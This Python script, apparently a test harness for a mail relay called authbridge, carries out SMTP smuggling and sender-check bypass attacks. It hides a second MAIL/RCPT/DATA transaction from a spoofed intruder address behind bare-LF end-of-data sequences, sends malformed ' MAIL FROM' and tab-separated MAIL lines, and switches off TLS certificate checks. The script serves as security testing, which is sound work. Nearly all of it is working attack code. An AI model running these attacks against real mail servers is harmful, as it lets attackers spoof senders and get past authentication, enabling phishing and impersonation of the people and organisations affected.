#!/usr/bin/env python3
"""SMTP smuggling and sender-check bypass attempts (authbridge's relay mode, or a server
directly), with Python's smtplib plus raw bytes where the attack needs them.

  smuggle.py body HOST PORT ENDING FROM TO INTRUDER TAG [--starttls] [--direct]
  smuggle.py bypass HOST PORT INTRUDER TO [--starttls]

body: one message from FROM to TO whose body hides, behind ENDING ("lf-crlf" = \\n.\\r\\n,
"lf-lf" = \\n.\\n), a second transaction from INTRUDER (Subject "smuggled TAG"); the carrier's
Subject is "carrier TAG". Prints "DATA-REPLY <reply>" for the end of the client's data. Then,
through authbridge: RSET ("RSET-REPLY <reply>") and a clean message from FROM (Subject
"after TAG"; "AFTER-REPLY <reply>"). With --direct (a server that takes the bare LF for a line
end answers the hidden commands too): "SMUGGLED-REPLY <reply>" for each of them.
bypass: " MAIL FROM:<INTRUDER>" and "MAIL<TAB>FROM:<INTRUDER>", each followed by RCPT TO;
prints "BYPASS-REPLY <reply>" for each MAIL line.
Exit 0 when the dialogue ran (the caller judges the replies), 1 otherwise.
"""
import smtplib
import ssl
import sys

ENDINGS = {"lf-crlf": b"\n.\r\n", "lf-lf": b"\n.\n"}


def insecure():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


def connect(host, port, flags):
    s = smtplib.SMTP(host, int(port), timeout=30)
    s.set_debuglevel(1)
    s.ehlo("smuggle.test")
    if "--starttls" in flags:
        s.starttls(context=insecure())
        s.ehlo("smuggle.test")
    return s


def show(code, msg):
    return f"{code} {msg.decode(errors='replace') if isinstance(msg, bytes) else msg}"


def body(host, port, ending, sender, to, intruder, tag, *flags):
    s = connect(host, port, flags)
    for reply in (s.mail(sender), s.rcpt(to)):
        if reply[0] != 250:
            print(f"SETUP-REPLY {show(*reply)}")
            return 1
    s.putcmd("data")
    code, msg = s.getreply()
    if code != 354:
        print(f"SETUP-REPLY {show(code, msg)}")
        return 1
    hidden = (
        f"MAIL FROM:<{intruder}>\r\nRCPT TO:<{to}>\r\nDATA\r\n"
        f"From: {intruder}\r\nTo: {to}\r\nSubject: smuggled {tag}\r\n\r\n"
        f"smuggled body {tag}\r\n.\r\n"
    )
    data = (
        f"From: {sender}\r\nTo: {to}\r\nSubject: carrier {tag}\r\n\r\ncarrier body".encode()
        + ENDINGS[ending]
        + hidden.encode()
    )
    s.send(data)
    print(f"DATA-REPLY {show(*s.getreply())}")
    if "--direct" in flags:
        for _ in range(4):  # MAIL, RCPT, DATA, end of data
            print(f"SMUGGLED-REPLY {show(*s.getreply())}")
        s.quit()
        return 0
    print(f"RSET-REPLY {show(*s.rset())}")
    clean = f"From: {sender}\r\nTo: {to}\r\nSubject: after {tag}\r\n\r\nbody-check after {tag} end\r\n"
    try:
        s.sendmail(sender, [to], clean)
        print("AFTER-REPLY 250 sent")
    except smtplib.SMTPException as e:
        print(f"AFTER-REPLY {e}")
    s.quit()
    return 0


def bypass(host, port, intruder, to, *flags):
    s = connect(host, port, flags)
    for line in (f" MAIL FROM:<{intruder}>", f"MAIL\tFROM:<{intruder}>"):
        s.send(line.encode() + b"\r\n")
        print(f"BYPASS-REPLY {show(*s.getreply())}")
        s.send(f"RCPT TO:<{to}>\r\n".encode())
        s.getreply()
        s.rset()
    s.quit()
    return 0


def main(argv):
    try:
        if argv[:1] == ["body"] and len(argv) >= 8:
            return body(*argv[1:])
        if argv[:1] == ["bypass"] and len(argv) >= 5:
            return bypass(*argv[1:])
    except (OSError, smtplib.SMTPException) as e:
        print(f"RESULT error {type(e).__name__}: {e}")
        return 1
    print(__doc__, file=sys.stderr)
    return 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
